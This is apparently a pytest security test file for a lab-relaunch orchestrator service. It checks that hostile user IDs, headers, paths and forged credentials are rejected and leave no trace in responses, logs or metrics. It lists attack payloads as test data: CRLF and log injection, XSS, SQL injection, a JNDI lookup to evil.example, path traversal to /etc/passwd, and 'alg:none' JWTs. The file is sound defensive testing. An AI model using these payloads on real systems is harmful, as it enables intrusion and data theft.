"""What somebody sends who means harm: into headers, paths, logs and metrics."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from pathlib import Path

import pytest

from orchestrator.logs import hash_user_ids, shown_user_id
from orchestrator.service.access.callers import Scope
from orchestrator.testing.virtual import run_virtual
from tests.service.signing import SECRET, claims, raw, signed
from tests.service.world import KEY, KEYS, NEW, OLD, Within, bearer, learner, on_ports

ASKED = {"user_id": "ada", "lab_profile_id": NEW}
NASTY = [
    "a\r\nSet-Cookie: x=y",
    "a\nINFO forged line",
    "a%0d%0aX-Injected: y",
    "\x1b[2J\x1b[31m",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    '"; DROP TABLE run; --',
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "../../../etc/passwd",
    "\u202eada\u0000",
    "a" * 900,
    "\U0001f4a5" * 200,
]


@pytest.mark.parametrize("user_id", NASTY, ids=range(len(NASTY)))
def test_a_learner_s_id_is_a_text_and_no_more(
    user_id: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)

    async def main() -> None:
        service = Within()
        async with service.client() as client:
            asked = ASKED | {"user_id": user_id}
            made = await client.post("/relaunches", json=asked, headers=bearer())
            control = any(ord(c) < 32 or ord(c) == 127 for c in user_id)
            assert made.status_code == (422 if control else 202)
            listed = await client.get("/relaunches", params={"user_id": user_id}, headers=bearer())
            assert listed.status_code == (422 if control else 200)
            if not control:
                assert made.json()["user_id"] == user_id
                assert [r["user_id"] for r in listed.json()["relaunches"]] == [user_id]
            for answer in (made, listed):
                assert not {"set-cookie", "x-injected"} & set(answer.headers)
                assert answer.headers["content-type"].startswith("application/")
            measured = await client.get("/metrics", headers=bearer(KEYS[Scope.READ]))
            assert user_id not in measured.text
        for record in caplog.records:
            if record.name.startswith("orchestrator"):
                assert "\n" not in record.getMessage()

    run_virtual(main())


@pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))
def test_what_is_in_a_header_stays_there(text: str) -> None:
    async def main() -> None:
        service = Within()
        async with service.client() as client:
            for name in ("Idempotency-Key", "Last-Event-ID", "If-None-Match", "X-Request-Id"):
                # In bytes: the client itself would refuse some of it.
                headers = {name.encode(): text.encode(), b"Authorization": f"Bearer {KEY}".encode()}
                answer = await client.post("/relaunches", json=ASKED, headers=headers)
                assert answer.status_code in (200, 202, 422)
                shown = "".join(f"{k}: {v}\n" for k, v in answer.headers.items()) + answer.text
                assert text not in shown
                assert not {"set-cookie", "x-injected"} & set(answer.headers)

    run_virtual(main())


@pytest.mark.parametrize(
    "path",
    [
        "/relaunches/..%2f..%2fetc%2fpasswd", "/relaunches/%00", "/relaunches/a%0d%0ab",
        "/relaunches/" + "a" * 65, "/relaunches/%ff%fe", "/relaunches/'%20OR%201=1",
        "/relaunches/%E2%80%AE", "/users/%00/labs", "/users/%0a/labs", "/users/%20/labs",
        "/users/ada/labs?lab_profile_id=0", "/users/ada/labs?lab_profile_id=99999999999",
        "/users/ada/labs?lab_profile_id=" + "9" * 5000, "/relaunches?user_id=%00",
        "/relaunches?user_id=", "/relaunches?limit=0", "/relaunches?limit=1001",
        "/relaunches?limit=" + "9" * 5000, "/relaunches?in_flight=perhaps",
    ],
)  # fmt: skip
def test_an_address_that_is_none(path: str) -> None:
    async def main() -> None:
        service = Within()
        async with service.client() as client:
            for headers in (bearer(), learner()):
                answer = await client.get(path, headers=headers)
                assert answer.status_code in (404, 422)
                assert answer.json()["code"] in ("invalid_request", "not_found")
                assert "passwd" not in answer.text
            assert service.platform.calls == []

    run_virtual(main())


@pytest.mark.parametrize(
    "credential",
    [
        "", "lrk_" + "A" * 43, "a.b.c", "null",
        signed(key="another secret of the same length, forty."),
        signed(claims(exp=1)),
        signed(claims(aud="another-service")),
        raw(json.dumps(claims()), header='{"alg":"none"}'),
        raw(json.dumps(claims()), header='{"alg":"none"}').rpartition(".")[0] + ".",
        signed() + "x",
    ],
    ids=range(10),
)  # fmt: skip
def test_a_credential_that_is_not_good_opens_no_door(credential: str) -> None:
    async def main() -> None:
        service = Within()
        async with service.client() as client:
            made = await client.post("/relaunches", json=ASKED, headers=bearer())
            place = made.headers["location"]
            for verb, path in (
                ("POST", "/relaunches"), ("GET", "/relaunches"), ("GET", place),
                ("GET", f"{place}/events"), ("DELETE", place), ("GET", "/users/ada/labs"),
                ("POST", "/users/ada/labs/5001/access-url"), ("GET", "/metrics"),
            ):  # fmt: skip
                body = ASKED if (verb, path) == ("POST", "/relaunches") else None
                answer = await client.request(verb, path, json=body, headers=bearer(credential))
                assert answer.status_code == 401, (verb, path)
                assert answer.headers["www-authenticate"] == "Bearer"

    run_virtual(main())


@pytest.fixture
def hashed() -> Iterator[None]:
    hash_user_ids("a salt")
    yield
    hash_user_ids(None)


@pytest.mark.usefixtures("hashed")
def test_nothing_of_anybody_is_in_any_log_or_metric(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Of the whole process, at the level at which libraries tell most."""
    caplog.set_level(logging.DEBUG)
    user = "ada.lovelace@lms.example"
    launch = {"first_name": "Augusta", "last_name": "Lovelace", "email": "augusta@lms.example"}
    token = signed(claims(sub=user, launch=launch))
    with on_ports(tmp_path) as here:
        here.sandbox.world.give(user, OLD)
        keyed = bearer(token) | {"Idempotency-Key": "my-own-press"}
        made = here.client.post("/relaunches", json={"lab_profile_id": NEW}, headers=keyed)
        told = here.follow(made.json()["relaunch_id"], bearer(token))
        assert told[-1][2]["outcome"] == "launched"
        new = told[-1][2]["lab_instance_id"]
        place = f"/users/{user}/labs"
        entered = here.client.post(f"{place}/{new}/access-url", headers=bearer(token)).json()
        for credential in (KEY, token, "lrk_" + "B" * 43, signed(key=SECRET + "!")):
            here.client.get("/relaunches", headers=bearer(credential))
            here.client.get(place, headers=bearer(credential))
        here.client.post("/relaunches", json={"lab_profile_id": 1}, headers=bearer(token))
        here.client.post("/relaunches", json={"user_id": user}, headers=bearer())
        measured = here.client.get("/metrics", headers=bearer(KEYS[Scope.READ])).text
    with_user = [r for r in caplog.records if hasattr(r, "user_id")]
    assert {vars(r)["user_id"] for r in with_user} <= {shown_user_id(user)}
    ours = {"service", "sandbox"}
    logged = "\n".join(
        f"{record.getMessage()} {vars(record)}"
        for record in caplog.records
        # What the test's own client says of its own requests is not the service's.
        if record.threadName in ours or record.name.startswith("orchestrator")
    )
    assert "request" in logged
    secrets = [
        user, "ada.lovelace", "Augusta", "Lovelace", "my-own-press", KEY, token, SECRET,
        "sandbox-key", "lrk_", told[-1][2]["url"], entered["url"], token.rpartition(".")[2],
    ]  # fmt: skip
    for secret in secrets:
        assert secret not in logged
        assert secret not in measured
